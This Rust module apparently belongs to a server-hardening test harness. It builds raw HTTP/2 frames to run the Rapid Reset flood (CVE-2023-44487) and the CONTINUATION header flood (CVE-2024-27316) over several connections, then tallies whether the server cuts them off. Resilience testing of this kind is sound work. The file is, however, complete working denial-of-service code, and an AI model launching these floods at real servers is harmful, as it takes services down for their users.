//! HTTP/2 by hand (RFC 9113): requests that are taken back at once (CVE-2023-44487), and headers without an end
//! (CVE-2024-27316).

use std::time::Duration;

use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, timeout_at};

use super::{Flood, Tally, measured, until};
use crate::http::connect;
use crate::target::{ATTACKER, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const CONNECTIONS: usize = 8;
/// Requests taken back in one go.
const AT_ONCE: u32 = 100;

/// Types of frames.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
/// Flags.
const END_STREAM_AND_HEADERS: u8 = 5;

/// Requests that are taken back at once.
pub async fn resets(target: &Target, lasting: Duration) -> anyhow::Result<Flood> {
    let what = "HTTP/2: requests that are taken back at once";
    let next = |first: u32| {
        let streams = (0..AT_ONCE).map(|number| first + 2 * number);
        let frames = streams.flat_map(|stream| {
            let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            [
                frame(HEADERS, END_STREAM_AND_HEADERS, stream, &fields()),
                cancel,
            ]
            .concat()
        });
        frames.collect()
    };
    // Each is nearly free; a server that does not end the connection has to go on serving others.
    flood(target, what, &["cut", "taken to the end"], lasting, next).await
}

/// Headers without an end.
pub async fn headers(target: &Target, lasting: Duration) -> anyhow::Result<Flood> {
    let what = "HTTP/2: headers without an end";
    let next = |first: u32| {
        // A field `x: 8000 × y`, not to be remembered (RFC 7541, section 6.2.2).
        let field = [&[0, 1, b'x', 0x7f, 0xc1, 0x3d][..], &[b'y'; 8000]].concat();
        let more = frame(CONTINUATION, 0, 1, &field);
        if first == 1 {
            [frame(HEADERS, 0, 1, &fields()), more].concat()
        } else {
            more
        }
    };
    flood(target, what, &["cut!", "taken to the end"], lasting, next).await
}

/// Sends on many connections what `next` makes of the first free stream, until the server has enough.
async fn flood(
    target: &Target,
    what: &str,
    answers: &[&str],
    lasting: Duration,
    next: impl Fn(u32) -> Vec<u8>,
) -> anyhow::Result<Flood> {
    let (until, next) = (until(lasting), &next);
    let attack = async {
        let connections = (0..CONNECTIONS).map(|_| async move {
            let mut tally = Tally::default();
            while Instant::now() < until {
                let held = timeout_at(until, held(target, next)).await;
                tally.count(if held.is_ok() {
                    "cut"
                } else {
                    "taken to the end"
                });
            }
            tally
        });
        Ok(join_all(connections).await.into_iter().collect())
    };
    measured(target, what, answers, attack).await
}

/// Ends when the server ends the connection.
async fn held(target: &Target, next: &impl Fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    let stream = connect(ATTACKER, target.server.api).await?;
    let (mut read, mut write) = stream.into_split();
    let writing = async {
        write.write_all(PREFACE).await?;
        write.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        let mut first = 1;
        loop {
            write.write_all(&next(first)).await?;
            first += 2 * AT_ONCE;
        }
    };
    let reading = async {
        let mut some = [0; 4096];
        while read.read(&mut some).await? > 0 {}
        std::io::Result::Ok(())
    };
    tokio::select! {
        written = writing => written,
        read = reading => read,
    }
}

fn frame(kind: u8, flags: u8, stream: u32, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), body].concat()
}

/// `GET /` of `x`, in the static table's numbers (RFC 7541, appendix A).
fn fields() -> Vec<u8> {
    vec![0x82, 0x84, 0x86, 0x01, 1, b'x']
}
